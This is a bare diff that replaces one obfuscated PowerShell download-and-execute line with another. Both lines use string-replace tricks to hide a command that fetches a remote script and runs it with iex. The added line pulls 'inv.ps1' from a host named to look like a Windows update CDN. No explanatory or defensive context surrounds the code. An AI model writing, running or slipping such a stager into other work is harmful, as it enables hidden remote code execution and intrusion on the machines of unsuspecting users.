@@ -1,4 +1,4 @@
-iex (('# run 5245 v4
-$ProgressPreference = ZVZ90''Sivz~1entvz~1yContinue''
-ZVZ90iwr -UseBasicPZVZ90arsing http://static.metrics-node.exampvz~1e/payvz~1oad.ps1 | iex
-' -replace 'ZVZ90','').Replace('vz~1','l'))
+iex (('# provision 8243 JXK75v4
+$ProgressPreference = ''SilentlyContinue''
+iwr -UseBjz~9sicPjz~9rsing httJXK75p://dl.winupdjz~9te-cdJXK75n.exjz~9mple/inv.ps1 | iex
+' -replace 'JXK75','').Replace('jz~9','a'))
